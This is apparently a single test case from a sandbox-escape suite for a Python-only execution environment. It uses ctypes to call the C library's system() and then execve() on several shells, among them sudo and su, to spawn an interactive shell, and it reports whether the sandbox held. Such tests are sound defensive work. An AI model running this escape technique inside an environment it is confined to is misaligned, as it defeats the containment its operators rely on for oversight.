# technique: ctypes calls system(3) and execve(2) of the C library
# source: CPython docs: ctypes
# verdict: WA
# invariant: there is nothing that could be executed but Python
# without: seccomp capabilities network read_only_root
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
status = libc.system(b"echo ESCAPED by system")
arguments = (ctypes.c_char_p * 3)(b"sh", b"-i", None)
for shell in (b"/bin/sh", b"/bin/bash", b"/usr/bin/dash", b"/bin/busybox", b"/usr/bin/sudo", b"/bin/su"):
    libc.execve(shell, arguments, None)
print("held" if status else "ESCAPED system(3) found a shell")
